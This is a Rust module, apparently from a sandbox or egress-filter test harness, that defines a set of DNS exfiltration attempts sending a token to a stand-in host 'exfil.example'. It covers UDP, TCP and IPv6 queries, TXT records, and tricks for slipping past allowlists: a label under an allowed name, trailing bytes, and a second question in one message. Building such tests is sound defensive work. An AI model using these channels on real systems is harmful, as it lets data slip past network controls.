//! Names as carriers: the token is a label of a name that a stranger's zone answers for.

use std::{
    io::{Read, Write},
    net::{IpAddr, SocketAddr, TcpStream, ToSocketAddrs, UdpSocket},
    time::Duration,
};

use super::{Attempt, Job, Vector};
use crate::zone;

const PATIENCE: Duration = Duration::from_secs(2);
const DNS: u16 = 53;

pub(super) const VECTORS: &[Vector] = &[
    Vector::new("dns-label", "the host's resolver", |job| {
        (name(job).as_str(), 443).to_socket_addrs().map(drop)?;
        Ok(())
    }),
    Vector::new("dns-stranger", "a stranger's DNS server, UDP", |job| {
        ask_udp(job, zone::OTHER_DNS)
    }),
    Vector::new("dns-host", "the host's DNS server, UDP", |job| {
        ask_udp(job, zone::DNS)
    }),
    Vector::new("dns-host6", "the host's DNS server, IPv6", |job| {
        ask_udp(job, zone::DNS6)
    }),
    Vector::new("dns-tcp", "the host's DNS server, TCP", |job| {
        let message = question(&name(job), 1);
        let mut stream = TcpStream::connect_timeout(&SocketAddr::new(zone::DNS, DNS), PATIENCE)?;
        stream.set_read_timeout(Some(PATIENCE))?;
        stream.write_all(&prefixed(&message))?;
        stream.read(&mut [0; 512]).map(drop)?;
        Ok(())
    }),
    Vector::new(
        "dns-tcp-second",
        "a declared name first, the token behind it in one segment",
        |job| {
            let first = prefixed(&question("allowed.example", 1));
            let both = [first, prefixed(&question(&name(job), 1))].concat();
            let mut stream =
                TcpStream::connect_timeout(&SocketAddr::new(zone::DNS, DNS), PATIENCE)?;
            stream.set_read_timeout(Some(PATIENCE))?;
            stream.write_all(&both)?;
            stream.read(&mut [0; 512]).map(drop)?;
            std::thread::sleep(Duration::from_millis(100));
            Ok(())
        },
    ),
    Vector::new("dns-txt", "a TXT question", |job| {
        ask(&question(&name(job), 16), zone::DNS)
    }),
    Vector::new(
        "dns-under-declared",
        "a label below a declared exact name",
        |job| {
            ask(
                &question(&format!("{}.allowed.example", job.token), 1),
                zone::DNS,
            )
        },
    ),
    Vector::new(
        "dns-trailing",
        "bytes behind a question for a declared name",
        |job| {
            let message = [&question("allowed.example", 1), job.bytes()].concat();
            ask(&message, zone::DNS)
        },
    ),
    Vector::new(
        "dns-two-questions",
        "a second question in one message",
        |job| {
            let mut message = question("allowed.example", 1);
            message[5] = 2;
            message.extend(&question(&name(job), 1)[12..]);
            ask(&message, zone::DNS)
        },
    ),
    Vector::new("dns-not-dns", "the bare token on port 53", |job| {
        ask(job.bytes(), zone::OTHER_DNS)
    }),
];

fn name(job: &Job) -> String {
    format!("{}.exfil.example", job.token)
}

fn ask_udp(job: &Job, server: IpAddr) -> Attempt {
    ask(&question(&name(job), 1), server)
}

fn ask(message: &[u8], server: IpAddr) -> Attempt {
    let any: SocketAddr = if server.is_ipv4() {
        ([0; 4], 0).into()
    } else {
        ([0u16; 8], 0).into()
    };
    let socket = UdpSocket::bind(any)?;
    socket.set_read_timeout(Some(Duration::from_millis(500)))?;
    socket.send_to(message, (server, DNS))?;
    // No answer is as good as one here: whether the question arrived is asked elsewhere.
    drop(socket.recv(&mut [0; 512]));
    Ok(())
}

/// A question as RFC 1035 section 4.1 writes it, with recursion desired.
fn question(name: &str, kind: u16) -> Vec<u8> {
    let mut message = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in name.split('.') {
        message.push(u8::try_from(label.len()).unwrap_or(u8::MAX));
        message.extend(label.as_bytes());
    }
    message.push(0);
    message.extend(kind.to_be_bytes());
    message.extend([0, 1]);
    message
}

fn prefixed(message: &[u8]) -> Vec<u8> {
    let length = u16::try_from(message.len()).unwrap_or(u16::MAX);
    [&length.to_be_bytes(), message].concat()
}
